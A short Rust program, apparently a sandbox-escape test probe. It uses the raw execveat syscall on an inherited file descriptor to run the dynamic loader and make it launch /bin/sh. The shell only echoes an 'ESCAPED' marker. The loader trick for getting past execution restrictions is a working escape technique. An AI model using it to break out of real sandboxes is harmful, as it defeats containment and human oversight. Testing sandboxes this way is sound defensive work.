//! Becomes what starts programs, which alone may be started, and asks it to start a shell. It can't
//! read one.

use std::ffi::{CString, c_char, c_long};
use std::ptr::null;

unsafe extern "C" {
    fn syscall(number: c_long, ...) -> c_long;
}

/// `execveat`
const EXECVEAT: c_long = if cfg!(target_arch = "x86_64") { 322 } else { 281 };

fn main() {
    for loader in ["/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-aarch64.so.1"] {
        let words = [loader, "/bin/sh", "-c", "echo ESCAPED: became a shell >&2"];
        let words = words.map(|word| CString::new(word).unwrap_or_default());
        let mut pointers: Vec<*const c_char> = words.iter().map(|word| word.as_ptr()).collect();
        pointers.push(null());
        unsafe {
            syscall(EXECVEAT, 64_i64, pointers[0], pointers.as_ptr(), 0_i64, 0x1000_i64);
        }
    }
}
